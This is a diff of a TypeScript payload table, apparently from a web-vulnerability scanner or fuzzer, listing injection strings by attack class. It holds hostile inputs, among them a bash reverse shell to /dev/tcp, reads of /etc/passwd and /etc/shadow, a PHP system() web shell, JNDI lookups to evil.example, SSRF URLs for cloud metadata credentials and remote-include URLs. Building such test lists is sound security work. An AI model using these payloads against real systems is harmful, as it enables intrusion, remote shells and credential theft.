@@ -18,13 +18,13 @@ const ATTACKS: Record<string, readonly string[]> = {
   xss: ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.domain)>', "<svg/onload=alert(1)>", "'-alert(1)-'"],
   rce: ['; cat /etc/passwd', '127.0.0.1 | id', '$(whoami)', '`sleep 5`', '|| ping -c 10 127.0.0.1', ';c\'a\'t${IFS}/etc/passwd', '& ping -n 5 127.0.0.1', '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1'],
   lfi: ['../../../../etc/passwd', '....//....//....//etc/shadow', '..\\..\\..\\windows\\win.ini', '/proc/self/environ', '%2e%2e%2f%2e%2e%2fetc%2fhosts'],
-  rfi: ['http://evil.example/shell.txt?', 'php://filter/convert.base64-encode/resource=index.php', 'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+', 'http://203.0.113.9/c99.php', 'expect://id'],
+  rfi: ['http://evil.example/shell.txt?', 'php://filter/convert.base64-encode/resource=index.php', 'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+', 'http://203.0.113.9/c99.php', 'expect://id', 'http:/\\evil.example/x.txt', 'https://cdn.example.net/backdoor.jpg?x='],
   php: ['<?php system($_GET["c"]); ?>', 'eval(base64_decode("cGhwaW5mbygpOw=="))', 'O:8:"stdClass":1:{s:4:"test";s:3:"abc";}', "passthru('whoami');"],
   java: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:${lower:r}mi://evil.example/x}', '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec("id"))}', 'T(java.lang.Runtime).getRuntime().exec("id")'],
   ssrf: ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://[fd00:ec2::254]/latest/meta-data/', 'http://2130706433:6379/', 'gopher://127.0.0.1:6379/_INFO', 'http://localhost:8080/admin', 'file:///etc/passwd'],
   nosql: ['{"$ne": null}', '{"$where": "sleep(5000)"}', '{"$regex": "^adm"}', "' || '1'=='1"],
   ssti: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', "{{''.__class__.__mro__[1].__subclasses__()}}", '{{config.items()}}', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '#{7*7}'],
-  crlf: ['\r\nSet-Cookie: session=evil', 'en\r\nLocation: https://evil.example/', 'x\r\n\r\n<script>alert(1)</script>', '\nX-Injected-Header: 1'],
+  crlf: ['\r\nSet-Cookie: session=evil', 'en\r\nLocation: https://evil.example/', 'x\r\n\r\n<script>alert(1)</script>', '\nX-Injected-Header: 1', 'bob\n[INFO] User admin logged in from 10.0.0.7'],
 }
 
 type Placement = 'query' | 'json' | 'form' | 'form-name' | 'multipart' | 'header' | 'cookie' | 'path'
